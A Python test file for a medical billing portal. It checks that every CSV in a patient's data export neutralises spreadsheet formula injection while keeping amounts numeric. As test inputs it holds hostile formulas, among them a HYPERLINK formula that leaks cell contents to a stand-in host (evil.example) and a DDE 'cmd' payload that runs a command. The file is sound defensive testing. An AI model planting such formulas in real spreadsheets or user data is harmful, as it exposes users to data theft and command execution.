"""CSV formula injection: every CSV the portal produces (the tables of the personal-data
export) comes out with no cell a spreadsheet would run, whatever doctors, staff, operators
and patients typed — while amounts stay numbers.

The texts go in the way people enter them: a doctor's reason for voiding, an agent's reason
for another amount and note for a rejection, through their forms; names and messages as the
operator and the outbox store them.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from portal.extensions import db
from portal.messaging import notify
from portal.models import Invoice
from tests.fixtures.claims import new_claim
from tests.fixtures.clients import in_english, signed_in_as, text_of
from tests.fixtures.invoices import new_invoice
from tests.security.test_hostile_input import Probe

# What a spreadsheet reads as the start of a formula, or of a new cell; also after spaces.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
NUMERIC = re.compile(r"-?[0-9]+")
NUMBER_COLUMNS = re.compile(r".*_cents|quantity|position")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+41 79 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "－1+1",
    "＠SUM(A1)",
]
# Only the operator and the outbox can store these: the forms strip white space around a text.
RAW_FORMULAS = ["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1"]


@pytest.fixture
def probe(figures):
    sent = Probe()
    yield sent
    sent.report(figures)


def export_of(probe, client) -> zipfile.ZipFile:
    assert probe.send(client, "POST", "/patient/my-data/export", hostile=False).status_code == 303
    with client.session_transaction() as cookie:
        token = cookie["export_token"]
    response = probe.send(client, "GET", f"/patient/my-data/export/{token}", hostile=False)
    assert response.status_code == 200, text_of(response)
    return zipfile.ZipFile(io.BytesIO(response.data))


def tables(archive: zipfile.ZipFile) -> dict[str, list[dict]]:
    found = {}
    for name in archive.namelist():
        if name.endswith(".csv"):
            text = archive.read(name).decode("utf-8")
            assert text.startswith("\ufeff"), name
            rows = list(csv.reader(io.StringIO(text[1:])))
            header, body = rows[0], rows[1:]
            assert all(len(row) == len(header) for row in body), f"{name}: a cell broke out of its row"
            found[name] = [dict(zip(header, row, strict=True)) for row in body]
    return found


def runnable_cells(found: dict[str, list[dict]]) -> list[str]:
    """Cells a spreadsheet would run: a trigger first, or after spaces; numbers excepted."""
    problems = []
    for name, rows in found.items():
        for row in rows:
            for column, cell in row.items():
                if NUMBER_COLUMNS.fullmatch(column) and (cell == "" or NUMERIC.fullmatch(cell)):
                    continue
                if cell.startswith(TRIGGERS) or cell.lstrip().startswith(TRIGGERS):
                    problems.append(f"{name} {column}: {cell!r}")
    return problems


@pytest.mark.parametrize("formula", FORMULAS + RAW_FORMULAS)
def test_formulas_people_enter_come_out_of_every_csv_as_plain_text(app, make_patient, make_doctor, make_staff,
                                                                    probe, figures, formula):
    typed = formula.strip()  # what a form keeps of it
    patient = make_patient(given_name=formula, surname=formula)
    doctor = make_doctor(name=formula)
    staff = make_staff()
    accepted = new_claim(patient, doctor, staff, state="in_review")
    rejected = new_claim(patient, doctor, staff, state="in_review", days_ago=4)
    voided = new_invoice(patient, doctor, days_ago=5)
    notify.send_email(f"{typed.replace(' ', '')}@example.lu" if typed[0] not in "＝－＠" else "x@example.lu",
                      formula, formula, patient_id=patient.profile.id)
    db.session.commit()

    agent, practice = in_english(signed_in_as(app, staff)), in_english(signed_in_as(app, doctor))
    response = probe.send(agent, "POST", f"/cns/claims/{accepted.id}/accept", hostile=False,
                          data={"version": accepted.version, "amount": "10.00", "reason": "other", "note": formula,
                                "confirmed": "y"})
    assert response.status_code == 303, text_of(response)[:300]
    response = probe.send(agent, "POST", f"/cns/claims/{rejected.id}/reject", hostile=False,
                          data={"version": rejected.version, "reason": "other", "note": formula, "confirmed": "y"})
    assert response.status_code == 303, text_of(response)[:300]
    response = probe.send(practice, "POST", f"/doctor/invoices/{voided.id}/void", hostile=False,
                          data={"reason": formula})
    assert response.status_code == 303, text_of(response)[:300]
    probe.send(practice, "GET", f"/doctor/invoices/{accepted.invoice_id}", hostile=False)  # an access-log row

    found = tables(export_of(probe, in_english(signed_in_as(app, patient))))
    problems = runnable_cells(found)
    cells = sum(len(row) for rows in found.values() for row in rows)
    figures.add("security.csv.cells_checked", cells)
    figures.add("security.csv.runnable_cells", len(problems))
    assert not problems, "\n".join(problems)

    # The texts are there, word for word behind the quote: neutralised, not dropped.
    claims = {row["reference"]: row for row in found["claims.csv"]}
    assert claims[accepted.reference]["adjustment_note"] == "'" + typed
    assert claims[rejected.reference]["rejection_note"] == "'" + typed
    number = db.session.get(Invoice, voided.id).number
    assert next(row for row in found["invoices.csv"] if row["number"] == number)["void_reason"] == "'" + typed
    assert {row["doctor"] for row in found["invoices.csv"]} == {"'" + formula}
    # (the decisions above wrote their own messages too: "a decision is in your portal")
    assert ("'" + formula, "'" + formula) in [(row["subject"], row["body"]) for row in found["messages.csv"]]
    assert {row["actor_name"] for row in found["access_log.csv"] if row["actor_kind"] == "doctor"} == {"'" + formula}


def test_amounts_stay_numbers_even_when_negative(app, make_patient, make_doctor, make_staff, probe):
    patient, doctor, staff = make_patient(), make_doctor(), make_staff()
    claim = new_claim(patient, doctor, staff, state="in_review", acts=(("C1", 2),))
    agent = in_english(signed_in_as(app, staff))
    response = probe.send(agent, "POST", f"/cns/claims/{claim.id}/accept", hostile=False,
                          data={"version": claim.version, "amount": "10.00", "reason": "tariff",
                                "confirmed": "y"})
    assert response.status_code == 303, text_of(response)[:300]

    found = tables(export_of(probe, in_english(signed_in_as(app, patient))))
    numbers = [(name, column, cell) for name, rows in found.items() for row in rows
               for column, cell in row.items() if NUMBER_COLUMNS.fullmatch(column) and cell != ""]
    assert numbers and all(NUMERIC.fullmatch(cell) for _name, _column, cell in numbers), numbers
    (statement,) = found["statements.csv"]
    # Less than computed: a negative adjustment, written as a number a spreadsheet can add up.
    assert int(statement["adjustment_cents"]) < 0 and statement["adjustment_cents"].startswith("-")
    assert int(statement["reimbursed_cents"]) == 1000
    assert int(statement["billed_cents"]) == int(found["claims.csv"][0]["total_cents"])
